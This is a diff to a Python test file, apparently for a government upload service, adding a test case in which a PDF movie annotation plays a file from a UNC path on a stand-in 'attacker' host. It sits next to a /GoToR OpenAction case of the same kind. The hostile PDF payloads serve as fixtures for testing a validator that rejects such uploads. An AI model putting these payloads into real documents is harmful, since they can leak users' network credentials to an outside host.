@@ -38,6 +38,7 @@ from tests.govuk import first_in_main
 from tests.otp import sign_in
 from tests.pdfs import (
     action_on_open,
+    annotation,
     embedded_file,
     inflating_to,
     javascript_on_open,
@@ -195,6 +196,11 @@ HOSTILE_UPLOADS = [
         "a /GoToR to a UNC path in /OpenAction",
         lambda: action_on_open(rb"<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"),
         UploadProblem.LAUNCH,
+    ),
+    (
+        "a movie annotation playing a file from a UNC path",
+        lambda: annotation(rb"/Subtype /Movie /Movie << /F (\\\\attacker\\share\\x.mov) >>"),
+        UploadProblem.MEDIA,
     ),
     ("100,000 pages in 600 KB", many_pages, too_many_pages_message),
     ("100,000 pages under a /Count of 1", lambda: many_pages(declared=1), too_many_pages_message),
